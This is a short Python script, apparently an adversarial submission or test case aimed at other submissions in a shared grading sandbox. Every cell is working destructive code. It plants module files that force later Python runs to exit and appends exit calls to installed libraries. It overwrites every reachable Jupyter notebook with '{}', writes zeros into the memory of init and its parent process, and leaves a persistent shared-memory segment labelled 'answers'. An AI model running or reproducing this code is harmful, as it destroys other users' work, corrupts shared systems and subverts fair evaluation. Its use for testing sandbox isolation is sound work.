# Goes for: other submissions.

# %% leaves a wrong helper for the next one
import os

for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "left-behind"):
        try:
            open(os.path.join(place, name), "w").write("raise SystemExit")
        except OSError:
            pass

# %% changes the installed libraries
import imbalanced_course
import numpy

for module in (numpy, imbalanced_course):
    try:
        open(module.__file__, "a").write("\nraise SystemExit\n")
    except OSError:
        pass

# %% reads and changes its neighbours
import glob

for place in glob.glob("/**/*.ipynb", recursive=True) + glob.glob("../../**/*.ipynb", recursive=True):
    try:
        text = open(place).read()
        open(place, "w").write("{}")
    except OSError:
        pass

# %% writes into the process it came from
import os

for process in ("1", str(os.getppid()), "2", "3"):
    try:
        with open(f"/proc/{process}/mem", "r+b") as memory:
            memory.seek(0x400000)
            memory.write(b"\x00" * 100)
    except OSError:
        pass

# %% shared memory that stays
import ctypes

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(0x1234, 4096, 0o1666), None, 0)
ctypes.memmove(place, b"answers", 7)
